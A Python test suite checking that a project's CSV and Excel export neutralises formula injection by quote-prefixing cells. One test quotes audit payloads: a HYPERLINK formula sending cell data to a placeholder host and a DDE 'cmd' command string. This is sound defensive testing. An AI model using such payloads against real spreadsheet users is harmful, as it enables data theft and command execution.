"""Every CSV and Excel cell is safe to open: no text runs as a formula."""

import datetime
import io
from decimal import Decimal

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from loften.core.spreadsheet import (
    FORMULA_STARTS,
    csv_value,
    safe_text,
    starts_formula,
    xlsx_row,
)

# Texts an editor could type that a spreadsheet would run: a formula character
# first, then anything (control characters included).
formula_texts = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from(FORMULA_STARTS),
    st.text(max_size=40),
)


def test_the_examples_of_the_audit_are_shown_as_text():
    for text in (
        '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")',
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
    ):
        assert csv_value(text) == "'" + text


@given(formula_texts)
def test_a_csv_text_that_would_run_as_a_formula_gets_a_quote_in_front(text):
    written = csv_value(text)
    assert written == "'" + text
    assert not starts_formula(written)


@given(st.text().filter(lambda text: not starts_formula(text)))
def test_other_csv_texts_are_left_as_they_are(text):
    assert csv_value(text) == text


@given(st.integers(min_value=-(10**9), max_value=10**9))
def test_negative_numbers_stay_numbers_in_csv(number):
    assert csv_value(number) == str(number)
    assert csv_value(Decimal(number) / 4) == format((Decimal(number) / 4), "f")


def test_lists_are_joined_and_neutralised_as_one_text():
    assert csv_value(["=A1", "Nässjö"]) == "'=A1; Nässjö"
    assert csv_value(["Nässjö", "=A1"]) == "Nässjö; =A1"


def test_other_values_keep_their_plain_forms():
    assert csv_value(None) == ""
    assert csv_value(False) == "false"
    assert csv_value(datetime.date(2026, 5, 1)) == "2026-05-01"
    moment = datetime.datetime(2026, 5, 1, 10, 30, tzinfo=datetime.UTC)
    assert csv_value(moment) == "2026-05-01T10:30:00Z"
    assert safe_text("Trygghetsvandring") == "Trygghetsvandring"


def _round_trip(rows, *, write_only: bool):
    workbook = openpyxl.Workbook(write_only=write_only)
    sheet = workbook.create_sheet("data") if write_only else workbook.active
    for row in rows:
        sheet.append(xlsx_row(sheet, row))
    output = io.BytesIO()
    workbook.save(output)
    loaded = openpyxl.load_workbook(io.BytesIO(output.getvalue()))
    return loaded["data"] if write_only else loaded.active


@given(st.lists(formula_texts, min_size=1, max_size=5), st.booleans())
def test_an_excel_text_is_never_a_formula_and_reads_back_as_typed(texts, write_only):
    sheet = _round_trip([[*texts, 12, Decimal("-2.5")]], write_only=write_only)
    cells = next(iter(sheet.iter_rows()))
    for cell, text in zip(cells, texts, strict=False):
        assert cell.data_type == "s"
        assert cell.quotePrefix
        # Only what a workbook cannot hold at all is left out.
        assert cell.value == "".join(c for c in text if c in "\t\n\r" or c >= " ")
    assert cells[-2].value == 12
    assert cells[-1].value == -2.5


def test_an_excel_text_without_formula_characters_is_plain():
    sheet = _round_trip([["Trygghetsvandring", "A=B"]], write_only=False)
    first, second = next(iter(sheet.iter_rows()))
    assert (first.value, first.quotePrefix) == ("Trygghetsvandring", False)
    assert (second.value, second.quotePrefix) == ("A=B", False)
